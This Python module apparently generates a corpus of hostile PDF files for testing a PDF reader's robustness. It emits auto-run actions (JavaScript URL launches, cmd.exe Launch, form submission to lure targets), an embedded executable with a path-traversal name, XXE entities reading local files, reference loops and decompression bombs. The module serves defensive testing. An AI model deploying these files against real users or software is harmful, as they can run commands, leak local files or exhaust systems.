"""PDFs that would act, reach out, go round in circles, or swell."""

from __future__ import annotations

import io
import zlib
from functools import partial
from typing import TYPE_CHECKING

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from hostile.model import ANYHOW, BOUNDED, EMPTY, ENCRYPTED, ENDED, READ, UNREADABLE, Hostile
from hostile.pdf_objects import FONT, PAGE, TEXT, flate, page_objects, pdf, stream

if TYPE_CHECKING:
    from collections.abc import Iterator

    from hostile.model import Lure

_BLANK = 64 * 1024 * 1024
"""Bytes that a stream swells to; a deflated one has a thousandth."""


def pdf_attacks(lure: Lure) -> Iterator[Hostile]:
    """A file for each."""
    yield from _actions(lure)
    yield from _attachments(lure)
    yield from _circles()
    yield from _swelling()
    yield from _odd_pages()
    yield from _locked()


def _actions(lure: Lure) -> Iterator[Hostile]:
    for word, target in lure.targets:
        where = target.replace("\\", "\\\\").encode()
        actions = {
            "脚本": b"<</S/JavaScript/JS(app.launchURL\\('%b'\\);)>>" % where,
            "启动": b"<</S/Launch/F(%b)/Win<</F(cmd.exe)/P(/c calc)>>>>" % where,
            "网页": b"<</S/URI/URI(%b)>>" % where,
            "提交": b"<</S/SubmitForm/F(%b)/Flags 32>>" % where,
            "取数": b"<</S/ImportData/F(%b)>>" % where,
            "跳转": b"<</S/GoToR/F(%b)/D[0/Fit]>>" % where,
            "嵌入跳转": b"<</S/GoToE/F(%b)/D[0/Fit]>>" % where,
            "播放": b"<</S/Rendition/R<</C<</D<</F(%b)>>>>>>>>" % where,
        }
        for name, action in actions.items():
            opening = page_objects(catalogue=b"/OpenAction" + action, page=b"/AA<</O%b>>" % action)
            yield Hostile(f"{word}-{name}.pdf", partial(pdf, opening), READ)
        outside = stream(b"", b"/F(%b)/FFilter/FlateDecode" % where)
        yield Hostile(f"{word}-外部流.pdf", partial(pdf, page_objects(contents=outside)), READ)
        proxy = b"<</Subtype/Form/BBox[0 0 9 9]/Length 0/Ref<</F(%b)/Page 0>>>>stream\n\nendstream"
        drawn = page_objects(contents=stream(TEXT + b" /X Do"), page=b"/XObject<</X 6 0 R>>")
        yield Hostile(f"{word}-引用.pdf", partial(pdf, {**drawn, 6: proxy % where}), READ)


def _attachments(lure: Lure) -> Iterator[Hostile]:
    program = {6: stream(b"MZ" + bytes(999), b"/Type/EmbeddedFile")}
    names = b"/Names<</EmbeddedFiles<</Names[(a)<</F(../a.exe)/EF<</F 6 0 R>>>>]>>>>"
    yield Hostile("附件.pdf", partial(pdf, {**page_objects(catalogue=names), **program}), READ)
    doctype = b'<!DOCTYPE a [<!ENTITY e SYSTEM "file://%b">]><a>&e;</a>' % lure.file.encode()
    for key in (b"/AcroForm<</XFA 6 0 R/Fields[]>>", b"/Metadata 6 0 R"):
        objects = {**page_objects(catalogue=key), 6: stream(doctype, b"/Type/Metadata")}
        yield Hostile(f"实体-{key[1:5].decode()}.pdf", partial(pdf, objects), READ)
    script = b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(while\\(1\\){})>>]>>>>"
    yield Hostile("脚本表.pdf", partial(pdf, page_objects(catalogue=script)), READ)
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</C<</S/JavaScript/JS(x)>>>>>>"
    )
    filled = page_objects(catalogue=b"/AcroForm<</Fields[6 0 R]>>", page=b"/Annots[6 0 R]")
    yield Hostile("字段脚本.pdf", partial(pdf, {**filled, 6: field}), READ)


def _circles() -> Iterator[Hostile]:
    own = page_objects()
    looping = {
        "子页是自己": {**own, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"},
        "互为子页": {
            **own,
            2: b"<</Type/Pages/Kids[6 0 R]/Count 9>>",
            6: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>",
        },
        "同页千次": {**own, 2: b"<</Type/Pages/Kids[%b]/Count 900>>" % (b"3 0 R " * 900)},
        "上级是自己": {**own, 3: PAGE.replace(b"2 0 R", b"3 0 R", 1) + b">>"},
        "内容是数组自身": {**own, 4: b"[4 0 R]"},
        "长度是自己": {**own, 4: b"<</Length 4 0 R>>stream\n%b\nendstream" % TEXT},
        "页是目录": {**own, 2: b"<</Type/Pages/Kids[1 0 R]/Count 1>>"},
        "对象流是自己": {**own, 4: stream(TEXT, b"/Type/ObjStm/N 1/First 4/Extends 4 0 R")},
        "字体是自己": {**own, 5: b"<</Type/Font/Subtype/Type0/DescendantFonts[5 0 R]/BaseFont/A>>"},
    }
    for name, objects in looping.items():
        yield Hostile(f"{name}.pdf", partial(pdf, objects), READ | EMPTY | UNREADABLE | BOUNDED)
    form = stream(b"/X Do " * 10, b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    drawn = page_objects(contents=stream(b"/X Do"), page=b"/XObject<</X 6 0 R>>")
    drawn[3] = drawn[3].replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>")
    yield Hostile("图形套自己.pdf", partial(pdf, {**drawn, 6: form}), READ | ENDED)
    yield Hostile("图形层层.pdf", partial(pdf, {**drawn, **_doubling()}), READ | ENDED)
    back = pdf(own, b"/Prev 9")
    yield Hostile("旧表是自己.pdf", partial(_with_previous, back), ANYHOW)


def _doubling() -> dict[int, bytes]:
    """Forms that each draw the next one ten times: 10^12 in all."""
    resources = b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    forms = {n: stream(b"/X Do " * 10, resources % (n + 1)) for n in range(6, 18)}
    return {**forms, 18: stream(b"0 0 m 9 9 l S", b"/Subtype/Form/BBox[0 0 9 9]")}


def _with_previous(data: bytes) -> bytes:
    place = data.rindex(b"xref\n0")
    return data.replace(b"/Prev 9", b"/Prev %d" % place)


def _swelling() -> Iterator[Hostile]:
    def contents(data: bytes) -> bytes:
        return pdf(page_objects(contents=data))

    blank = bytes(_BLANK)
    bombs = {
        "flate空白": lambda: contents(flate(blank)),
        "flate三重": lambda: contents(flate(blank, 3)),
        "flate文字": lambda: contents(flate(b"BT /F 9 Tf (1) Tj ET " * 500_000)),
        "flate线条": lambda: contents(flate(b"0 0 m 9 9 l S\n" * 1_000_000)),
        "flate矩形": lambda: contents(flate(b"1 1 300 200 re S\n" * 300_000)),
        "flate存栈": lambda: contents(flate(b"q " * 5_000_000)),
        "flate括号": lambda: contents(flate(b"[" * 5_000_000)),
        "lzw": lambda: contents(stream(_lzw_zeros(200_000), b"", b"/LZWDecode")),
        "行程": lambda: contents(stream(b"\x81\0" * 400_000, b"", b"/RunLengthDecode")),
        "十六进制": lambda: contents(stream(b"(" * 900_000, b"", b"/ASCIIHexDecode")),
    }
    for name, make in bombs.items():
        yield Hostile(f"{name}.pdf", make, READ | ENDED)
    yield Hostile("百万对象.pdf", _million_objects, READ | BOUNDED)
    yield Hostile("百万页.pdf", partial(_many_pages, 1_000_000), BOUNDED | UNREADABLE)
    yield Hostile("万页.pdf", partial(_many_pages, 10_000), BOUNDED)
    yield Hostile("深套.pdf", partial(pdf, page_objects(catalogue=b"/A" + b"[" * 90_000)), ANYHOW)
    yield Hostile("对象流炸弹.pdf", _object_streams, ANYHOW)
    for width, height in ((60_000, 60_000), (2_000_000_000, 1), (100_000, 30_000)):
        yield Hostile(f"图{width}.pdf", partial(_pictured, width, height), READ | BOUNDED)


def _lzw_zeros(times: int) -> bytes:
    """LZW codes (nine bits) of 256 zeros each, as far as it goes: clear, 0, 258, clear, …"""
    bits = "".join(f"{code:09b}" for code in (256, 0, 258, 258, 256)) * (times // 5)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def _million_objects() -> bytes:
    more = b"".join(b"%d 0 obj\n<<>>\nendobj\n" % n for n in range(9, 1_000_009))
    return pdf(page_objects()).replace(b"xref\n0", more + b"xref\n0", 1)


def _many_pages(count: int) -> bytes:
    objects = page_objects()
    objects[2] = b"<</Type/Pages/Kids[%b]/Count %d>>" % (b"3 0 R " * count, count)
    return pdf(objects)


def _object_streams() -> bytes:
    inner = b"".join(b"%d %d " % (n, 0) for n in range(10, 60_010)) + b"<<>>"
    data = zlib.compress(inner + bytes(_BLANK))
    entries = b"/Type/ObjStm/N 60000/First %d" % len(inner)
    return pdf({**page_objects(), 6: stream(data, entries, b"/FlateDecode")})


def _pictured(width: int, height: int) -> bytes:
    """A page that is a picture, of which the size is told and hardly a byte there."""
    entries = b"/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray"
    objects = page_objects(contents=stream(b"400 0 0 300 0 0 cm /X Do"))
    objects[3] = objects[3].replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>")
    return pdf({**objects, 6: flate(bytes(9_999), 1, entries % (width, height))})


def _odd_pages() -> Iterator[Hostile]:
    boxes = {
        "无穷": b"[0 0 1e38 1e38]", "负": b"[400 300 0 0]", "零": b"[0 0 0 0]",
        "非数": b"[nan nan nan nan]", "少": b"[0 0]", "大": b"[0 0 2000000 2000000]",
        "远": b"[-9999999 -9999999 9999999 9999999]",
    }  # fmt: skip
    for name, box in boxes.items():
        objects = page_objects()
        objects[3] = objects[3].replace(b"[0 0 400 300]", box)
        yield Hostile(f"页面{name}.pdf", partial(pdf, objects), READ | UNREADABLE | EMPTY | BOUNDED)
    contents = {
        "极大坐标": b"BT /F 12 Tf 1e38 1e38 Td (1) Tj ET 0 0 m 1e38 1e38 l S",
        "极大字号": b"BT /F 1e30 Tf 40 200 Td (1-1) Tj ET",
        "零矩阵": b"0 0 0 0 0 0 cm BT /F 12 Tf (1) Tj ET 0 0 9 9 re S",
        "非数矩阵": b"1e999 nan 0 1 0 0 cm BT /F 12 Tf (1) Tj ET 0 0 9 9 re S",
        "没有字体": b"BT /G 12 Tf 40 200 Td (1) Tj ET",
        "乱操作": b"Q Q Q ET EMC ] > ) Do 1 2 3 Tj 5 BDC",
    }
    for name, data in contents.items():
        yield Hostile(f"{name}.pdf", partial(pdf, page_objects(contents=stream(data))), READ)
    yield Hostile("没有页.pdf", partial(pdf, {1: b"<</Type/Catalog>>"}), EMPTY | UNREADABLE)
    yield Hostile("没有对象.pdf", partial(pdf, {}), EMPTY | UNREADABLE)
    font = FONT.replace(b"/Helvetica", b"/A/FontDescriptor 6 0 R")
    broken = {**page_objects(), 5: font, 6: b"<</FontFile3 7 0 R>>", 7: flate(b"\1\0\4" * 99)}
    yield Hostile("坏字体.pdf", partial(pdf, broken), READ)


def _locked() -> Iterator[Hostile]:
    for strength in (40, 128):
        yield Hostile(f"有密码{strength}.pdf", partial(_encrypted, strength), ENCRYPTED)
    unknown = b"/Encrypt<</Filter/Nobody/V 9/R 9>>/ID[<00><00>]"
    yield Hostile("不明加密.pdf", partial(pdf, page_objects(), unknown), ENCRYPTED | UNREADABLE)


def _encrypted(strength: int) -> bytes:
    target = io.BytesIO()
    lock = StandardEncryption("开", ownerPassword="主", strength=strength)
    canvas = Canvas(target, encrypt=lock)
    canvas.drawString(40, 40, "1-1")
    canvas.save()
    return target.getvalue()
